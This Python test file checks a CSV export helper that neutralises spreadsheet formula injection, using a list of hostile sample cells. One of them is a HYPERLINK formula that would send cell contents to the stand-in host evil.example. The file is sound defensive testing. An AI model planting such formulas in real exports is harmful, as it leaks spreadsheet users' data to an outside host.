"""CSV injection (OWASP): no cell Cyan writes to a CSV starts a spreadsheet formula, and
numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st

from core.csvsafe import FORMULA_PREFIXES, csv_text

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_every_formula_prefix_is_neutralised():
    cells = read_back(csv_text([HOSTILE]))[0]
    assert cells == ["'" + value for value in HOSTILE]
    assert not any(cell.startswith(FORMULA_PREFIXES) for cell in cells)


def test_numbers_stay_numbers():
    row = [Decimal("-12.50"), -3, 0, Decimal("1234.50"), 7]
    assert read_back(csv_text([row]))[0] == ["-12.50", "-3", "0", "1234.50", "7"]


def test_plain_text_is_unchanged():
    row = ["Ada Lovelace", "O'Brien", "", "a-b", "x=y", "Maya @ home"]
    assert read_back(csv_text([row]))[0] == row


@given(st.text())
def test_no_text_cell_ever_starts_a_formula(text):
    cell = read_back(csv_text([[text, "end"]]))[0][0]
    assert not cell.startswith(FORMULA_PREFIXES)
    assert cell in (text, "'" + text)  # nothing else is changed
